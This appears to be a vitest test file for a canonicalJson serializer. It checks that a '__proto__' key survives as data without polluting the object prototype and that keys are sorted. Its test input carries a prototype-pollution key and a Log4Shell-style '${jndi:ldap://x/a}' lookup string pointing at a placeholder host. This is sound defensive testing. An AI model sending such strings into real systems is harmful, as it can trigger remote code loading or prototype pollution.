import { describe, expect, it } from "vitest";
import { canonicalJson } from "../../../src/core/canonical.js";

describe("canonicalJson", () => {
  it("keeps a __proto__ key as data at any depth (it used to vanish, so two contents hashed alike)", () => {
    const parsed = JSON.parse('{"b":{"__proto__":{"x":"${jndi:ldap://x/a}"},"a":1}}') as unknown;
    expect(canonicalJson(parsed)).toBe('{"b":{"__proto__":{"x":"${jndi:ldap://x/a}"},"a":1}}');
    expect(canonicalJson(parsed)).not.toBe(canonicalJson({ b: { a: 1 } }));
    expect(({} as Record<string, unknown>).x).toBeUndefined(); // and no prototype was touched
  });

  it("sorts keys at every level", () => {
    expect(canonicalJson({ b: [{ d: 1, c: 2 }], a: null })).toBe('{"a":null,"b":[{"c":2,"d":1}]}');
  });
});
